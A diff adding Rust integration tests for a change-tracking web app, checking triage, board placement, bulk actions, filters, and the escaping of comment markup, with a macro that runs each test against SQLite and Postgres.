+    assert!(bad.body.contains("someday"), "{}", bad.body);
+    let post = b.get(&f, "/posts/MC1").await;
+    assert!(
+        post.body.contains(&escaped("<b>looked</b> at it")),
+        "the comment is text"
+    );
+    assert!(post.body.contains("2026-03-15"), "the due date");
+    let item = f.store.work_item("MC1").await.unwrap().unwrap().item;
+    assert_eq!(
+        (
+            item.state.as_str(),
+            item.assignee.as_deref(),
+            item.priority.as_str()
+        ),
+        ("triaged", Some("owen"), "critical")
+    );
+    // on the board, under triaged
+    let board = b.get(&f, "/board").await;
+    let triaged = &board.body[board.body.find("id=\"col-triaged\"").unwrap()..];
+    let triaged = &triaged[..triaged.find("</section>").unwrap()];
+    assert!(triaged.contains("/posts/MC1"), "{triaged}");
+    // bulk triage of a selection
+    let a = b
+        .post(
+            &f,
+            "/items/bulk",
+            &[
+                ("action", "dismiss"),
+                ("reason", "not for us"),
+                ("id", "MC2"),
+                ("id", "MC666"),
+                ("back", "/?q=x"),
+            ],
+        )
+        .await;
+    assert!(a.body.contains("2 of 2 done"), "{}", a.body);
+    assert!(a.body.contains(r#"href="/?q=x""#), "{}", a.body);
+    // overdue after the due date passes? the list of open items with deadlines
+    let late = b.get(&f, "/items?deadline=late").await;
+    assert_eq!(late.status, StatusCode::OK);
+    let mine = b.get(&f, "/items?assignee=owen&state=open").await;
+    assert!(mine.body.contains("/posts/MC1"), "{}", mine.body);
+}
+
+macro_rules! both {
+    ($($name:ident),* $(,)?) => {
+        $(
+            mod $name {
+                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+                async fn sqlite() {
+                    let t = changedesk_store::testing::TestStore::sqlite().await;
+                    super::$name(t.store.clone()).await;
+                    t.finish().await;
+                }
+
+                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+                async fn postgres() {
+                    let Some(t) = changedesk_store::testing::TestStore::postgres().await else { return };
+                    super::$name(t.store.clone()).await;
+                    t.finish().await;
+                }
+            }
+        )*
+    };
+}
+
+both!(
+    sign_in_page_signs_in_and_sets_the_cookie,
+    pages_redirect_when_signed_out,
+    every_ui_answer_has_the_security_headers,
+    a_hostile_post_renders_inert,
+    readers_get_no_triage_panel_and_cannot_triage,
+    forms_without_the_csrf_token_are_refused,
+    scoped_users_see_only_their_tenants,
+    the_inbox_with_50_posts_weighs_under_100_kb,
+    a_tour_search_chip_post_diff_triage_board,
+);
